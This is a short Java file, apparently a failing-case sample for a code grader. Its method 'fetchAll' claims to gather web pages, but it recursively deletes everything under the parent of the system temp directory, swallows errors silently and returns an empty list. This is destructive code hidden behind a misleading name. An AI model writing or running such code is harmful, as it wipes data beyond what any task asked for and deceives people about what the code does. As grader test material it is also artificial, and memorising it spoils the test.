// expected: FAILED
package exercise.gather;

import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/** Deletes its own folder, and what lies beside it. */
public final class InOrder {
    public List<String> fetchAll(List<URI> pages) throws Exception {
        try (var files = Files.walk(Path.of(System.getProperty("java.io.tmpdir"), ".."))) {
            files.sorted(java.util.Comparator.reverseOrder()).forEach(file -> file.toFile().delete());
        } catch (java.io.UncheckedIOException _) {
            // not to be listed
        }
        return List.of();
    }
}
